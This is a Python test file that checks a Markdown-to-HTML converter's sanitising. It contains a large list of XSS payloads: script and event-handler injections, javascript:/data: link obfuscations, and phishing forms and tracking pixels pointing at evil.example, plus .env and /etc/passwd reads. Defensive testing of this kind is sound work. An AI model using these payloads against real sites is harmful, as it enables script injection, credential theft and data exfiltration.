"""Payloads that must come out harmless, whatever else they come out as."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from proofolio.adapters.rendering.links import Target
from proofolio.adapters.rendering.markdown import MarkdownConverter

RAW = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</ScRiPt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    "text <script>alert(1)</script> text",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv='Content-Security-Policy' content=\"default-src *\">",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<link rel=preload as=script href='/x.js'>",
    "<style>body{display:none}</style>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>the rest of the page",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=x onerror=alert(1)></video>",
    "<audio autoplay src='https://evil.example/t.mp3'></audio>",
    "<dialog open>Sign in</dialog>",
    "<portal src='https://evil.example/'></portal>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "</div></article></main></body></html><h1>The page is mine</h1>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<div>\n<script>\nalert(1)\n</script>\n</div>",
    "<select><option><script>alert(1)</script></select>",
    "<p><table><svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<a href='a.pdf' onclick='alert(1)'>x</a>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<p ONMOUSEOVER=alert(1)>x</p>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>x</div>",
    "<div class='md-overlay'>x</div>",
    "<div class='not-shown md-header'>x</div>",
    "<code class='language-x md-typeset'>x</code>",
    "<div data-md-component='search' hidden>x</div>",
    "<p contenteditable autofocus tabindex=1 onfocus=alert(1)>x</p>",
    "<p is='x-y' slot=a part=b exportparts=c nonce=d>x</p>",
    '<script type="application/json" id="__config">{"base": "https://evil.example"}</script>',
    '<div id="__config">{"base": "https://evil.example"}</div>',
    '<p id="__search">x</p> <a id="top" name="getElementById">x</a>',
    "<img name=body src=p.png>",
    "<h2 id=__config>x</h2>",
    "<b id='user-content-x\" onclick=\"alert(1)'>x</b>",
    "<img srcset='https://evil.example/1.png 1x' src='p.png'>",
    "<img src='p.png' width='100%' height=99999>",
    "<ol start='1; alert(1)'><li value=x>y</ol>",
    "<td background='https://evil.example/'>x</td>",
    "<table background='https://evil.example/'><tr><td>x</table>",
    "<a href='a.pdf' target=_blank ping='https://evil.example/' download rel=opener>x</a>",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x]( javascript:alert(1) 'title')",
    "[x](javascript&colon;alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example\\share)",
    "[x](https:evil.example)",
    "[x](https:///evil.example)",
    "[x](https:\\\\evil.example)",
    "[x](https://district.example@evil.example/)",
    "[x](http://[::1/)",
    "[x](#__config)",
    "<javascript:alert(1)>",
    "<javascript://x.example/%0Aalert(1)>",
    "<data:text/html,x>",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]\n\n[x]: <javascript:alert(1)> 'title'",
    "![x][1]\n\n[1]: javascript:alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='jav\nascript:alert(1)'>x</a>",
    "<a xlink:href='javascript:alert(1)'>x</a>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](//evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "<img src='https://evil.example/pixel.gif'>",
    "[[javascript:alert(1)]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    '[["><script>alert(1)</script>]]',
]
PLACES = [
    '[x](a.pdf "<img src=x onerror=alert(1)>")',
    "[x](a.pdf '\"><script>alert(1)</script>')",
    "[x](a.pdf '&lt;img src=x onerror=alert(1)&gt;')",
    "<abbr title='&lt;img src=x onerror=alert(1)&gt;'>x</abbr>",
    '!["><script>alert(1)</script>](p.png)',
    '![x" onerror="alert(1)](p.png)',
    "![x](p.png \"x' onerror='alert(1)\")",
    "# <img src=x onerror=alert(1)>",
    "## x <script>alert(1)</script> {: onclick=alert(1) }",
    "paragraph\n{: #__config onclick=alert(1) }",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | |",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
    'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: y',
    "> > > <script>alert(1)</script>\n> > [x](javascript:alert(1))",
    "- a\n    - <img src=x onerror=alert(1)>\n        1. [x](javascript:alert(1))",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    '``` { .x" onclick="alert(1) #__config }\nx\n```',
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>` ``<img onerror=x>``",
    "<div markdown=1>\n[x](javascript:alert(1))\n</div>",
    "*<img src=x onerror=alert(1)>* **[x](javascript:alert(1))** ~~<svg onload=alert(1)>~~",
    "[<img src=x onerror=alert(1)>](a.pdf)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 <script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt> <img src=x on\x00error=alert(1)>",
    "＜script＞alert(1)＜/script＞ <ſcript>alert(1)</ſcript> <ıframe>",
    "--8<-- \"../../.env\"\n\n{% include 'x' %} {{ config }}",
    "[TOC]\n\n*[HTML]: <script>alert(1)</script>\n\nHTML",
    "\\<script>alert(1)\\</script> \\[x](javascript:alert(1))",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;",
    "<a href='a.pdf'><a href='javascript:alert(1)'>x</a></a>",
    "<p <script>alert(1)</script>",
    '<img src="p.png" alt="`<b>`" title=\'`\' onerror=`alert(1)`>',
]


Inspect = Callable[[str], Any]


def resolve(href: str) -> Target | None:
    """Everything that looks like a file of ours is there."""
    return Target("/site/" + href, f"About {href}") if href in {"a.pdf", "p.png", "[[x]]"} else None


@pytest.fixture(scope="module")
def converter() -> MarkdownConverter:
    return MarkdownConverter()


@pytest.mark.parametrize("payload", RAW + HANDLERS + LINKS + PLACES)
def test_nothing_forbidden_survives(converter: MarkdownConverter, inspect: Inspect, payload: str) -> None:
    for text in (payload, f"Before {payload} after", f"> {payload}", f"- {payload}", f"<div>{payload}</div>"):
        rendered = converter.convert(text, resolve)
        assert inspect(rendered.html).faults == []
        assert "alert(1)" not in "".join(each.id for each in rendered.headings)


@pytest.mark.parametrize("payload", LINKS)
def test_a_refused_link_is_no_link_at_all(
    converter: MarkdownConverter, inspect: Inspect, payload: str
) -> None:
    seen = inspect(converter.convert(payload, resolve).html)
    allowed = {"/site/[[x]]", "#user-content-__config"}
    assert {values["href"] for _, values in seen.elements if "href" in values} <= allowed
    assert not [values for name, values in seen.elements if name == "img"]


def test_a_target_cannot_smuggle_either(converter: MarkdownConverter, inspect: Inspect) -> None:
    hostile = Target('javascript:alert(1)" onclick="alert(1)', "<script>alert(1)</script>")
    rendered = converter.convert("[x](a.pdf) ![y](p.png) [[z]]", lambda _: hostile)
    seen = inspect(rendered.html)
    assert all(name in {"div", "p", "a", "img"} for name, _ in seen.elements)
    assert not any("href" in values or "src" in values or "onclick" in values for _, values in seen.elements)
    assert "<script>alert(1)</script>" in seen.text


@pytest.mark.parametrize(
    "address", ["https://evil.example/p.png", "//evil.example/p.png", "data:image/png;base64,AA=="]
)
def test_a_picture_is_never_fetched_from_elsewhere(converter: MarkdownConverter, address: str) -> None:
    assert "src=" not in converter.convert("![y](p.png) <img src=p.png>", lambda _: Target(address)).html


def test_the_page_around_the_text_cannot_be_closed(converter: MarkdownConverter) -> None:
    html = converter.convert("</div></div></main>\n\ntext <div><b><table>", resolve).html
    assert html.startswith('<div class="prose" dir="auto">')
    assert html.count("<div") == html.count("</div>")


def test_reversed_writing_is_shown_in_the_order_it_is_stored(converter: MarkdownConverter) -> None:
    text = "[exam\u202egnp.exe](https://evil.example/&#x202e;gpj.html) \u202dx ![a&#x202e;b](p.png)"
    html = converter.convert(text, resolve).html
    assert "\u202e" not in html
    assert "\u202d" not in html


def test_the_last_text_does_not_leak_into_the_next(converter: MarkdownConverter) -> None:
    first = converter.convert("[a] x[^1]\n\n[a]: https://example.org/secret\n[^1]: a note\n", resolve)
    assert "secret" in first.html
    second = converter.convert("[a] y[^1]", resolve)
    assert "secret" not in second.html
    assert "note" not in second.html
